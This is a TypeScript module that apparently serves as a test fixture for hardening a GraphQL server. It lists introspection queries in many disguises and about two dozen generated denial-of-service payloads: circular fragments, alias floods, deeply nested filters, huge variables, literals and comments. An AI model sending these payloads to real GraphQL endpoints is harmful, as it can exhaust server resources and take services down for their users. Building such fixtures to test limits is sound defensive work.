import { getIntrospectionQuery } from "graphql";

/** A request that a client may send to keep the server busy. */
export interface Attack {
  readonly query: string;
  readonly variables?: unknown;
}

const times = (count: number, write: (index: number) => string, between = " "): string =>
  Array.from({ length: count }, (_, index) => write(index)).join(between);

const everyType = `types { name description fields(includeDeprecated: true) { name description args { name description type { name } } type { name kind ofType { name kind ofType { name } } } } inputFields { name } enumValues { name description } }`;
const standard = getIntrospectionQuery({ inputValueDeprecation: true });

/** Introspection queries in every form in which the schema can be asked for. */
export const introspections: Readonly<Record<string, Attack>> = {
  "the standard query": { query: standard },
  __schema: { query: "{ __schema { types { name } } }" },
  __type: { query: `{ __type(name: "Person") { name fields { name } } }` },
  "an alias": { query: "{ viewer { name } typename: __schema { queryType { name } } }" },
  "a fragment": {
    query:
      "query { ...A } fragment A on Query { ...B } fragment B on Query { __schema { queryType { name } } }",
  },
  "an inline fragment": { query: "{ ... { ... on Query { __schema { queryType { name } } } } }" },
  "a directive": {
    query: "query ($is: Boolean!) { __schema @include(if: $is) { queryType { name } } }",
    variables: { is: true },
  },
};

/** Known ways to make a small request expensive. */
export const attacks: Readonly<Record<string, Attack>> = {
  "aliases of introspection": {
    query: `{ ${times(90, (n) => `a${n}: __schema { ...S }`)} } fragment S on __Schema { ${everyType} }`,
  },
  "aliased fragments of introspection": {
    query: `{ ${times(200, (n) => `a${n}: __schema { ...S }`)} } fragment S on __Schema { ${times(8, (n) => `s${n}: types { ...T }`)} } fragment T on __Type { ${times(8, (n) => `f${n}: fields { name description }`)} }`,
  },
  "introspection again and again": {
    query: `{ ${times(60, () => "...A")} } fragment A on Query { ${times(60, (n) => `a${n}: __type(name: "Mutation") { fields { description args { description } } }`)} }`,
  },
  "introspection that goes round": {
    query: `{ __schema { types { ${"fields { type { ".repeat(200)}name${" } }".repeat(200)} } } }`,
  },
  "introspection in width": {
    query: `{ __schema { types { ...T0 } } } ${times(60, (n) => `fragment T${n} on __Type { a: ofType { ...T${n + 1} } b: ofType { ...T${n + 1} } }`)} fragment T60 on __Type { name }`,
  },
  aliases: { query: `{ ${times(1_400, (n) => `a${n}: viewer { name }`)} }` },
  "one field very often": { query: `{ ${times(2_400, () => "viewer { name }")} }` },
  "fragments in circles": {
    query: `{ person(by: { email: "a@b.co" }) { ...F0 } } ${times(1_000, (n) => `fragment F${n} on Person { ...F${(n + 1) % 1_000} }`)}`,
  },
  "fragments in width": {
    query: `{ people { nodes { ...F0 } } } ${times(400, (n) => `fragment F${n} on Person { ...F${n + 1} ...F${Math.min(n + 2, 400)} a${n}: firstName }`)} fragment F400 on Person { id }`,
  },
  "directives, all known": {
    query: `{ ${times(800, () => "...A @include(if: true)")} } fragment A on Query { viewer { name } }`,
  },
  "directives, none known": { query: `{ viewer { name ${times(4_500, () => "@a")} } }` },
  "names that nobody knows": { query: `{ ${times(4_500, (n) => `peopel${n}`)} }` },
  "variables that nobody uses": {
    query: `query (${times(2_300, (n) => `$v${n}: Int`)}) { viewer { name } }`,
  },
  operations: { query: times(900, (n) => `query Q${n} { viewer { name } }`) },
  "pages within pages": {
    query: `{ people(first: 100) { nodes { ${times(12, (n) => `h${n}: history(first: 100) { nodes { changes { field before after } } }`)} } } }`,
  },
  "a deep input": {
    query: `{ people(filter: ${"{ and: [".repeat(2_400)}{}${"] }".repeat(2_400)}) { totalCount } }`,
  },
  "a deep variable": {
    query: "query ($filter: PersonFilter) { people(filter: $filter) { totalCount } }",
    variables: { filter: JSON.parse(`${'{"and":['.repeat(2_000)}{}${"]}".repeat(2_000)}`) },
  },
  "a wide input": {
    query: `{ people(filter: { tags: { any: [${times(9_000, () => '"a"')}] } }) { totalCount } }`,
  },
  "a wide variable": {
    query: "query ($any: [String!]) { people(filter: { tags: { any: $any } }) { totalCount } }",
    variables: { any: Array.from({ length: 500_000 }, (_, n) => `t${n % 10}`) },
  },
  "a wide variable of the wrong type": {
    query: "query ($any: [String!]) { people(filter: { tags: { any: $any } }) { totalCount } }",
    variables: { any: Array.from({ length: 500_000 }, (_, n) => n) },
  },
  "a variable of many fields that nobody knows": {
    query: "query ($filter: PersonFilter) { people(filter: $filter) { totalCount } }",
    variables: {
      filter: Object.fromEntries(Array.from({ length: 200_000 }, (_, n) => [`k${n}`, 1])),
    },
  },
  "many variables that nobody asked for": {
    query: "{ viewer { name } }",
    variables: Object.fromEntries(Array.from({ length: 200_000 }, (_, n) => [`k${n}`, 1])),
  },
  "names of thousands of letters": {
    query: `{ ${times(400, (n) => `${"people".repeat(1_300)}${n}`)} }`,
  },
  "a huge literal": {
    query: `{ people(search: "${"a".repeat(3_900_000)}") { totalCount } }`,
  },
  "a huge comment": { query: `${"#\n".repeat(1_900_000)}{ viewer { name } }` },
};
